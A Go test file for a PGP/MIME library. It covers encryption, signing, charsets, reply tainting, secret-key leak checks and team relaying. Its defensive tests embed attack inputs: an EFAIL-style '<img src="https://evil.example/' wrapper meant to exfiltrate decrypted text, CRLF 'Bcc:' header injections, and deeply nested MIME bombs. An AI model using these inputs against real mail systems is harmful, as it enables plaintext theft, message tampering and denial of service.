package pgpmime_test

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"io"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/cvdkit/cvdkit/pgp"
	"github.com/cvdkit/cvdkit/pgp/pgpmime"
)

var t0 = time.Date(2026, 1, 5, 12, 0, 0, 0, time.UTC)

func engine() *pgp.Engine {
	return &pgp.Engine{Now: func() time.Time { return t0.Add(24 * time.Hour) }}
}

func key(name string, v6 bool) func() pgp.Secret {
	return sync.OnceValue(func() pgp.Secret {
		e := &pgp.Engine{Now: func() time.Time { return t0 }}
		s, _, err := e.Generate(pgp.KeySpec{Address: name + "@example.org", V6: v6})
		if err != nil {
			panic(err)
		}
		return s
	})
}

var alice, bob, team, carol = key("alice", false), key("bob", false), key("team", false), key("carol", true)

func to(keys ...pgp.Secret) (out []pgp.Recipient) {
	for _, k := range keys {
		out = append(out, pgp.Recipient{Address: k.Cert().UserIDs()[0].Address, Cert: k.Cert()})
	}
	return out
}

// encrypt, sign and plaintext write a draft into memory.
func encrypt(t testing.TB, d *pgpmime.Draft, e *pgp.Engine, env pgp.Envelope) ([]byte, error) {
	t.Helper()
	var b bytes.Buffer
	err := d.Encrypt(t.Context(), &b, e, env)
	return b.Bytes(), err
}

func sign(t testing.TB, d *pgpmime.Draft, e *pgp.Engine, from pgp.Secret) ([]byte, error) {
	t.Helper()
	var b bytes.Buffer
	err := d.Sign(t.Context(), &b, e, from)
	return b.Bytes(), err
}

func plaintext(t testing.TB, d *pgpmime.Draft) ([]byte, error) {
	t.Helper()
	var b bytes.Buffer
	err := d.Plaintext(t.Context(), &b, engine())
	return b.Bytes(), err
}

func content(t testing.TB, p pgpmime.Part) []byte {
	t.Helper()
	b, err := io.ReadAll(p.Open())
	require.NoError(t, err)
	return b
}

// outbox takes the mails of a relay.
type outbox map[string]*bytes.Buffer

func (o outbox) open(to pgp.Recipient) (io.WriteCloser, error) {
	o[to.Address] = new(bytes.Buffer)
	return nopCloser{o[to.Address]}, nil
}

type nopCloser struct{ io.Writer }

func (nopCloser) Close() error { return nil }

// relay opens a mail with the team's keys and relays it.
func relay(t testing.TB, tm pgpmime.Team, mail []byte, senders ...pgp.Secret) (outbox, []pgp.Problem, error) {
	t.Helper()
	var certs []pgp.Cert
	for _, s := range senders {
		certs = append(certs, s.Cert())
	}
	m, err := tm.Opener(engine(), certs).Open(t.Context(), bytes.NewReader(mail))
	require.NotNil(t, m, "%v", err)
	defer m.Close()
	out := outbox{}
	problems, err := tm.Relay(t.Context(), engine(), m, t0, out.open)
	return out, problems, err
}

func open(t *testing.T, data []byte, with pgp.Secret, from ...pgp.Secret) (*pgpmime.Mail, error) {
	t.Helper()
	ring := pgp.Keyring{Secrets: []pgp.Secret{with}}
	for _, f := range from {
		ring.Certs = append(ring.Certs, f.Cert())
	}
	m, err := pgpmime.Opener{Engine: engine(), Keyring: ring}.Open(t.Context(), bytes.NewReader(data))
	if m != nil {
		t.Cleanup(func() { m.Close() })
	}
	return m, err
}

func mustOpen(t *testing.T, data []byte, with pgp.Secret, from ...pgp.Secret) *pgpmime.Mail {
	t.Helper()
	m, err := open(t, data, with, from...)
	require.NoError(t, err, string(data))
	return m
}

func draft() *pgpmime.Draft {
	return &pgpmime.Draft{
		From: []string{"Alice <alice@example.org>"}, To: []string{"bob@example.org"},
		Subject: "Überlauf im Parser", Text: "Dear Bob,\n\nFrom here: -- \x41 = ü\n" + strings.Repeat("long ", 40) + "\n",
		Date: t0, MessageID: "1@example.org",
		Attachments: []pgpmime.Attachment{{Name: "täst.bin", Data: bytes.Repeat([]byte{0, 0xff, 13, 10}, 500)}},
	}
}

func TestEncryptedMail(t *testing.T) {
	for _, k := range []pgp.Secret{bob(), carol()} {
		d := draft()
		d.To = []string{k.Cert().UserIDs()[0].Address}
		data, err := encrypt(t, d, engine(), pgp.Envelope{To: to(k), From: []pgp.Secret{alice()}})
		require.NoError(t, err)
		require.NotContains(t, string(data), "berlauf")
		for _, stored := range [][]byte{data, bytes.ReplaceAll(data, []byte("\r\n"), []byte("\n"))} {
			m := mustOpen(t, stored, k, alice())
			require.Equal(t, pgpmime.FormEncrypted, m.Form)
			require.Equal(t, pgp.Valid, pgp.Best(m.Signatures()))
			require.Equal(t, "[...]", m.Outer.Get("Subject"))
			require.Contains(t, m.Protected.Get("Subject"), "berlauf")
			require.Equal(t, "<1@example.org>", m.Protected.Get("Message-ID"))
			text, ok := m.Text()
			require.True(t, ok)
			require.Equal(t, d.Text, strings.ReplaceAll(text, "\r\n", "\n"))
			require.Equal(t, "täst.bin", m.Parts[1].Name)
			require.Equal(t, d.Attachments[0].Data, content(t, m.Parts[1]))
		}
	}
}

func TestSignedMail(t *testing.T) {
	data, err := sign(t, draft(), engine(), alice())
	require.NoError(t, err)
	require.Contains(t, string(data), `micalg="pgp-sha512"`)
	status := func(data []byte) pgp.Status {
		m := mustOpen(t, data, bob(), alice())
		require.Equal(t, pgpmime.FormSigned, m.Form)
		require.NotNil(t, m.Protected)
		return pgp.Best(m.Signatures())
	}
	require.Equal(t, pgp.Valid, status(data))
	require.Equal(t, pgp.Valid, status(bytes.ReplaceAll(data, []byte("\r\n"), []byte("\n"))), "stored with LF")
	require.Equal(t, pgp.Bad, status(bytes.Replace(data, []byte("Dear"), []byte("Fear"), 1)))
	plain, err := plaintext(t, draft())
	require.NoError(t, err)
	m := mustOpen(t, plain, bob())
	require.Equal(t, pgpmime.FormNone, m.Form)
	require.Nil(t, m.Protected)
	require.Equal(t, pgp.Unverified, pgp.Best(m.Signatures()))
}

// rawMail wraps a body in a header.
func rawMail(contentType, body string) []byte {
	return []byte("From: alice@example.org\r\nTo: bob@example.org\r\nSubject: outer\r\nMIME-Version: 1.0\r\nContent-Type: " + contentType + "\r\n\r\n" + body)
}

func sealed(t *testing.T, text string, f pgp.Form) string {
	t.Helper()
	var b bytes.Buffer
	require.NoError(t, engine().Encrypt(t.Context(), &b, strings.NewReader(text), pgp.Envelope{To: to(bob()), From: []pgp.Secret{alice()}, Form: f}))
	return b.String()
}

const inner = "Content-Type: text/plain; charset=iso-8859-1\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\nGr=FC=DFe\r\n"

func TestOtherForms(t *testing.T) {
	clear, err := engine().SignCleartext(t.Context(), []byte("hello"), alice())
	require.NoError(t, err)
	var inline bytes.Buffer
	require.NoError(t, engine().SignInline(t.Context(), &inline, strings.NewReader("hello"), []pgp.Secret{alice()}, pgp.Form{}))
	binary := base64.StdEncoding.EncodeToString([]byte(sealed(t, "a file", pgp.Form{Binary: true})))
	for name, c := range map[string]struct {
		mail []byte
		form pgpmime.Form
		text string
	}{
		"exchange": {rawMail(`multipart/mixed; boundary="x"`, "--x\r\nContent-Type: text/plain\r\n\r\n\r\n--x\r\nContent-Type: application/pgp-encrypted\r\nContent-Disposition: attachment\r\n\r\nVersion: 1\r\n--x\r\nContent-Type: application/octet-stream; name=\"encrypted.asc\"\r\nContent-Transfer-Encoding: base64\r\n\r\n"+
			base64.StdEncoding.EncodeToString([]byte(sealed(t, inner, pgp.Form{})))+"\r\n--x--\r\n"), pgpmime.FormEncrypted, "Grüße\n"},
		"inline":        {rawMail("text/plain; charset=utf-8", "\r\n"+sealed(t, "hello", pgp.Form{})+"\r\n"), pgpmime.FormInline, "hello"},
		"inline signed": {rawMail("text/plain", inline.String()), pgpmime.FormInline, "hello"},
		"cleartext":     {rawMail("text/plain", string(clear)), pgpmime.FormCleartext, "hello"},
		"attachment":    {rawMail(`multipart/mixed; boundary=x`, "--x\r\n\r\nopen text\r\n--x\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"report.pdf.pgp\"\r\nContent-Transfer-Encoding: base64\r\n\r\n"+binary+"\r\n--x--"), pgpmime.FormAttachment, "open text"},
	} {
		m := mustOpen(t, c.mail, bob(), alice())
		require.Equal(t, c.form, m.Form, name)
		text, ok := m.Text()
		require.True(t, ok)
		require.Equal(t, c.text, text, name)
		if c.form != pgpmime.FormAttachment {
			require.Equal(t, pgp.Valid, pgp.Best(m.Signatures()), name)
			continue
		}
		require.Equal(t, pgp.Unverified, pgp.Best(m.Signatures()), "the open text is not signed")
		require.Equal(t, "report.pdf", m.Parts[1].Name)
		require.Equal(t, "a file", string(content(t, m.Parts[1])))
		require.Equal(t, pgp.Valid, pgp.Best(m.Parts[1].Signatures))
	}
}

func TestCharsets(t *testing.T) {
	for charset, data := range map[string]string{
		"utf-8": "Grüße €", "iso-8859-15": "Gr\xfc\xdfe \xa4", "windows-1252": "Gr\xfc\xdfe \x80", "ISO-8859-1": "Gr\xfc\xdfe \x80",
		"utf-16le": "G\x00r\x00\xfc\x00\xdf\x00e\x00 \x00\xac\x20", "utf-16": "\xfe\xff\x00G\x00r\x00\xfc\x00\xdf\x00e\x00 \x20\xac",
	} {
		m := mustOpen(t, rawMail("text/plain; charset="+charset, data), bob())
		text, ok := m.Text()
		require.True(t, ok, charset)
		require.Equal(t, "Grüße €", text, charset)
	}
	for charset, data := range map[string]string{
		"ISO-2022-JP": "\x1b$B3+H/\x1b(B", "Shift_JIS": "\x8aJ\x94\xad", "EUC-JP": "\xb3\xab\xc8\xaf", "x-sjis": "\x8aJ\x94\xad", "cp932": "\x8aJ\x94\xad",
		"gb18030": "\xe9_\xb0k",
	} {
		m := mustOpen(t, rawMail("text/plain; charset="+charset, data), bob())
		text, ok := m.Text()
		require.True(t, ok, charset)
		require.Equal(t, "開発", text, charset)
	}
	text, ok := mustOpen(t, rawMail("text/plain; charset=EUC-KR", "\xb0\xa1"), bob()).Text()
	require.True(t, ok)
	require.Equal(t, "가", text)
	m := mustOpen(t, rawMail("text/plain; charset=x-nobody", "a\xff"), bob())
	text, ok = m.Text()
	require.False(t, ok)
	require.Equal(t, "a\ufffd", text)
	require.Contains(t, m.Flags, pgpmime.FlagCharset)
}

// Encrypted and then signed outside is signed only; encrypted around signed is
// both.
func TestSignedInsideEncrypted(t *testing.T) {
	signed, err := sign(t, draft(), engine(), alice())
	require.NoError(t, err)
	var b bytes.Buffer
	require.NoError(t, engine().Encrypt(t.Context(), &b, bytes.NewReader(signed), pgp.Envelope{To: to(bob())}))
	wrap := func(ciphertext string) []byte {
		return rawMail(`multipart/encrypted; protocol="application/pgp-encrypted"; boundary=x`,
			"--x\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--x\r\nContent-Type: application/octet-stream\r\n\r\n"+ciphertext+"\r\n--x--\r\n")
	}
	m := mustOpen(t, wrap(b.String()), bob(), alice())
	require.Equal(t, pgp.Valid, pgp.Best(m.Signatures()))
	require.Contains(t, m.Protected.Get("Subject"), "berlauf")
	b.Reset()
	require.NoError(t, engine().Encrypt(t.Context(), &b, bytes.NewReader(bytes.Replace(signed, []byte("Dear"), []byte("Fear"), 1)), pgp.Envelope{To: to(bob())}))
	m = mustOpen(t, wrap(b.String()), bob(), alice())
	require.Equal(t, pgp.Bad, pgp.Best(m.Signatures()), "read with its status: losing a report is worse")
	text, _ := m.Text()
	require.Contains(t, text, "Fear")
}

func TestDanger14Structure(t *testing.T) {
	secret := sealed(t, "Content-Type: text/plain\r\n\r\nsecret", pgp.Form{})
	version := "--x\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n"
	data := "--x\r\nContent-Type: application/octet-stream\r\n\r\n" + secret + "\r\n"
	encrypted := `multipart/encrypted; protocol="application/pgp-encrypted"; boundary=x`
	for name, mail := range map[string][]byte{
		"three parts":     rawMail(encrypted, version+data+"--x\r\n\r\nleak\r\n--x--\r\n"),
		"one part":        rawMail(encrypted, data+"--x--\r\n"),
		"other order":     rawMail(encrypted, data+version+"--x--\r\n"),
		"other protocol":  rawMail(`multipart/encrypted; protocol="application/pkcs7"; boundary=x`, version+data+"--x--\r\n"),
		"no version":      rawMail(encrypted, "--x\r\nContent-Type: application/pgp-encrypted\r\n\r\n\r\n"+data+"--x--\r\n"),
		"no boundary":     rawMail("multipart/mixed", "x"),
		"two types":       rawMail("text/plain\r\nContent-Type: multipart/mixed; boundary=x", "x"),
		"signed, 3 parts": rawMail(`multipart/signed; protocol="application/pgp-signature"; boundary=x`, "--x\r\n\r\na\r\n--x\r\n\r\nb\r\n--x\r\nContent-Type: application/pgp-signature\r\n\r\nx\r\n--x--\r\n"),
	} {
		m, err := open(t, mail, bob(), alice())
		require.NotNil(t, m, "%s: nothing is lost", name)
		require.False(t, m.Opened(), name)
		require.NotEqual(t, pgp.Valid, pgp.Best(m.Signatures()), name)
		for _, p := range m.Parts {
			require.NotContains(t, string(content(t, p)), "secret", name)
		}
		if strings.Contains(string(mail), "BEGIN PGP") || strings.Contains(name, "signed") {
			require.NotEmpty(t, m.Unread, name)
			require.ErrorIs(t, m.Unread[0].Err, pgpmime.ErrMalformed, name)
		}
		if strings.Contains(string(mail), "BEGIN PGP") && !strings.Contains(name, "three") {
			require.ErrorIs(t, err, pgpmime.ErrMalformed, name)
		}
	}
	// Ciphertext that is not the outermost layer stays what it is: a mail that
	// puts it between its own parts would get the plain text sent to its author.
	nested := "--y\r\nContent-Type: text/html\r\n\r\n<img src=\"https://evil.example/\r\n--y\r\nContent-Type: " + encrypted + "\r\n\r\n" + version + data + "--x--\r\n--y\r\nContent-Type: text/html\r\n\r\n\">\r\n--y--\r\n"
	m := mustOpen(t, rawMail("multipart/mixed; boundary=y", nested), bob(), alice())
	require.Equal(t, pgpmime.FormNone, m.Form)
	around := mustOpen(t, rawMail("text/plain", "see\r\n"+secret), bob(), alice())
	after := mustOpen(t, rawMail("text/plain", secret+"pay at once\r\n"), bob(), alice())
	for _, m := range []*pgpmime.Mail{m, around, after} {
		for _, p := range m.Parts {
			require.NotContains(t, string(content(t, p)), "secret")
		}
		require.False(t, m.Opened())
		require.Len(t, m.Unread, 1)
		require.Equal(t, pgpmime.UnreadEncrypted, m.Unread[0].Kind)
	}

	limited := func(data []byte) {
		t.Helper()
		m := mustOpen(t, data, bob())
		require.NotEmpty(t, m.Unread)
		require.Equal(t, pgpmime.UnreadLimit, m.Unread[0].Kind)
		require.ErrorIs(t, m.Unread[0].Err, pgpmime.ErrLimit)
		require.LessOrEqual(t, len(m.Parts), 500)
	}
	deep := "" // the same delimiter again and again is the outer one
	for range 5000 {
		deep += "Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n"
	}
	limited([]byte(deep))
	distinct := ""
	for i := range 5000 {
		distinct += fmt.Sprintf("Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n", i, i)
	}
	limited([]byte(distinct))
	limited(rawMail("multipart/mixed; boundary=x", strings.Repeat("--x\r\n\r\na\r\n", 5000)))
	limited([]byte("X: " + strings.Repeat("x", 1<<20) + "\r\n\r\n"))
	limited([]byte(strings.Repeat("X: y\r\n", 5000)))
}

func TestReplyIsTainted(t *testing.T) {
	data, err := encrypt(t, draft(), engine(), pgp.Envelope{To: to(bob()), From: []pgp.Secret{alice()}})
	require.NoError(t, err)
	r := mustOpen(t, data, bob(), alice()).Reply()
	require.True(t, r.Tainted())
	require.Equal(t, "Re: Überlauf im Parser", r.Subject)
	require.Contains(t, r.Text, "> Dear Bob,")
	r.From, r.Text = []string{"bob@example.org"}, "nothing of the old text is left"
	_, err = plaintext(t, r)
	require.ErrorIs(t, err, pgpmime.ErrTainted)
	_, err = sign(t, r, engine(), bob())
	require.ErrorIs(t, err, pgpmime.ErrTainted)

	env := pgp.Envelope{To: to(alice(), bob(), carol()), From: []pgp.Secret{bob()}}
	_, err = encrypt(t, r, engine(), env)
	require.ErrorIs(t, err, pgpmime.ErrUnconfirmed)
	r.Confirm("Carol@example.org")
	_, err = encrypt(t, r, engine(), env)
	require.NoError(t, err)
	env.Passwords = [][]byte{[]byte("x")}
	_, err = encrypt(t, r, engine(), env)
	require.ErrorIs(t, err, pgpmime.ErrUnconfirmed)
	env.Passwords, env.To = nil, to(bob())
	_, err = encrypt(t, r, engine(), env)
	require.ErrorIs(t, err, pgp.ErrNoKey, "who is in To needs a key")

	plain, err := plaintext(t, draft())
	require.NoError(t, err)
	require.False(t, mustOpen(t, plain, bob()).Reply().Tainted())
}

func TestSecretKeysStayHere(t *testing.T) {
	armored, err := alice().ExportUnlocked()
	require.NoError(t, err)
	s := string(armored)
	binary, err := base64.StdEncoding.DecodeString(strings.ReplaceAll(s[strings.Index(s, "\n\n")+2:strings.LastIndex(s, "\n=")], "\n", ""))
	require.NoError(t, err)
	forwarded := []byte("Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64.StdEncoding.EncodeToString(binary) + "\r\n--x--\r\n")
	for name, change := range map[string]func(d *pgpmime.Draft){
		"text":      func(d *pgpmime.Draft) { d.Text = "my key:\n" + s },
		"file":      func(d *pgpmime.Draft) { d.Attachments[0].Data = binary },
		"armored":   func(d *pgpmime.Draft) { d.Attachments[0].Data = armored },
		"forwarded": func(d *pgpmime.Draft) { d.Attachments[0] = pgpmime.Attachment{Type: "message/rfc822", Data: forwarded} },
	} {
		d := draft()
		change(d)
		_, err := encrypt(t, d, engine(), pgp.Envelope{To: to(bob())})
		require.ErrorIs(t, err, pgp.ErrSecretMaterial, name)
		_, err = sign(t, d, engine(), alice())
		require.ErrorIs(t, err, pgp.ErrSecretMaterial, name)
		_, err = plaintext(t, d)
		require.ErrorIs(t, err, pgp.ErrSecretMaterial, name)
	}
	// A report about a leaked key is relayed, with a flag.
	mail := rawMail(`multipart/mixed; boundary=x`, "--x\r\n\r\nmy key\r\n--x\r\nContent-Transfer-Encoding: base64\r\n\r\n"+base64.StdEncoding.EncodeToString(binary)+"\r\n--x--")
	m := mustOpen(t, mail, team())
	require.Contains(t, m.Flags, pgpmime.FlagSecretKey)
	out, _, err := relay(t, pgpmime.Team{Address: "team@example.org", Keys: []pgp.Secret{team()}, Members: to(bob())}, mail)
	require.NoError(t, err)
	got := mustOpen(t, out["bob@example.org"].Bytes(), bob())
	require.Equal(t, binary, content(t, got.Parts[2]))
}

func TestHeaderInjection(t *testing.T) {
	d := draft()
	d.Subject = "x\r\nBcc: evil@example.org"
	d.MessageID = "1>\r\nBcc: evil@example.org"
	d.Attachments[0].Name = "x\"\r\nBcc: evil@example.org"
	data, err := plaintext(t, d)
	require.NoError(t, err)
	require.NotContains(t, string(data), "\nBcc:")
	d.To = []string{"bob@example.org\r\nBcc: evil@example.org"}
	_, err = plaintext(t, d)
	require.ErrorIs(t, err, pgpmime.ErrMalformed)
}

func TestRelay(t *testing.T) {
	d := draft()
	d.To = []string{"team@example.org"}
	data, err := encrypt(t, d, engine(), pgp.Envelope{To: to(team()), From: []pgp.Secret{alice()}})
	require.NoError(t, err)
	old := &pgp.Engine{Now: func() time.Time { return t0.Add(-100 * 24 * time.Hour) }}
	expired, _, err := old.Generate(pgp.KeySpec{Address: "gone@example.org", Lifetime: time.Hour})
	require.NoError(t, err)
	tm := pgpmime.Team{Address: "team@example.org", Keys: []pgp.Secret{team()}, Members: to(bob(), expired, carol())}
	out, problems, err := relay(t, tm, data, alice())
	require.NoError(t, err)
	require.Len(t, out, 2)
	require.Len(t, problems, 1)
	require.Equal(t, "gone@example.org", problems[0].Address)
	require.ErrorIs(t, problems[0].Reason, pgp.ErrExpired)
	for i, member := range []pgp.Secret{bob(), carol()} {
		m := mustOpen(t, out[to(member)[0].Address].Bytes(), member, team())
		require.Equal(t, pgp.Valid, pgp.Best(m.Signatures()))
		require.Equal(t, team().Fingerprint(), m.Signatures()[0].Signer)
		require.Contains(t, m.Protected.Get("Subject"), "berlauf")
		require.Equal(t, "[...]", m.Outer.Get("Subject"))
		require.Contains(t, string(content(t, m.Parts[0])), "Signature: VALID, key "+alice().Fingerprint()+" of alice@example.org, part 1")
		require.Contains(t, string(content(t, m.Parts[1])), "Dear Bob")
		require.Equal(t, d.Attachments[0].Data, content(t, m.Parts[2]))
		other := []pgp.Secret{carol(), bob()}[i]
		_, err = open(t, out[to(member)[0].Address].Bytes(), other)
		require.ErrorIs(t, err, pgp.ErrNotForUs, "each member has a mail of his own")
	}
	// A mail in the open goes on encrypted, and says so.
	plain, err := plaintext(t, draft())
	require.NoError(t, err)
	out, _, err = relay(t, tm, plain)
	require.NoError(t, err)
	require.NotContains(t, out["bob@example.org"].String(), "Dear Bob")
	m := mustOpen(t, out["bob@example.org"].Bytes(), bob(), team())
	require.Contains(t, string(content(t, m.Parts[0])), "Encrypted on its way here: NO")
	// Nobody left.
	tm.Members = to(expired)
	_, problems, err = relay(t, tm, data)
	require.ErrorIs(t, err, pgpmime.ErrNobody)
	require.Len(t, problems, 1)
	// Changed on its way: forwarded as it came, and it says so.
	i := bytes.Index(data, []byte("-----BEGIN PGP MESSAGE")) + 600
	data[i] ^= 1
	_, err = open(t, data, team())
	require.ErrorIs(t, err, pgp.ErrDamaged)
	tm.Members = to(bob())
	out, _, err = relay(t, tm, data)
	require.NoError(t, err)
	m = mustOpen(t, out["bob@example.org"].Bytes(), bob(), team())
	require.Contains(t, string(content(t, m.Parts[0])), "NOT READ: encrypted")
	require.Equal(t, "message/rfc822", m.Parts[1].Type)
	require.Equal(t, string(data), string(content(t, m.Parts[1])))
}
